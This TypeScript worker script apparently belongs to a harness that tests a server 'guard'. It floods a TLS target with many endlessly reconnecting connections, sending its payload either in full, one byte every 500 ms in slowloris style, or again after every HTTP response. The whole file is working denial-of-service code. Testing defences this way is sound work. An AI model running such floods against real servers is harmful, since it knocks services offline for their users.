import { once } from 'node:events';
import { createInterface } from 'node:readline';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect } from 'node:tls';

import type { FloodOrder } from './flood.ts';

/** Between two connections of a client, so that a closed port costs the attacker no processor. */
const RECONNECT_MS = 10;
/** Between two bytes of a slow client. */
const BYTE_INTERVAL_MS = 500;

const [line] = (await once(createInterface(process.stdin), 'line')) as [string];
const { target, kind, connections, bytes: text } = JSON.parse(line) as FloodOrder;
const bytes = Buffer.from(text, 'base64');
// The parent has ended.
process.stdin.on('end', () => process.exit());

let startedCount = 0;

function countStart() {
  startedCount += 1;
  if (startedCount === Math.ceil(connections / 10)) process.stdout.write('started\n');
}

/** Attacks over one connection until the guard closes it. */
async function attack(): Promise<void> {
  const socket = connect({ ...target }).on('error', () => undefined);
  const ended = new AbortController();
  const closed = once(socket, 'close').finally(() => ended.abort());
  await once(socket, 'secureConnect', { signal: ended.signal });
  countStart();
  if (kind === 'requests') {
    socket.on('data', (chunk: Buffer) => {
      if (chunk.includes('HTTP/1.1')) socket.write(bytes);
    });
  }
  // Otherwise the end of the connection stays unseen.
  socket.resume();
  if (kind === 'slow') for (const byte of bytes) await sendLater(() => socket.write(Buffer.of(byte)), ended.signal);
  else socket.write(bytes);
  await closed;
}

async function sendLater(send: () => void, signal: AbortSignal) {
  await sleep(BYTE_INTERVAL_MS, undefined, { signal });
  send();
}

async function attackForever(): Promise<never> {
  for (;;) {
    await attack().catch(() => undefined);
    await sleep(RECONNECT_MS);
  }
}

for (let index = 0; index < connections; index += 1) {
  void attackForever();
  // Handshakes of all connections at once would be another attack.
  if (index % 10 === 9) await sleep(20);
}
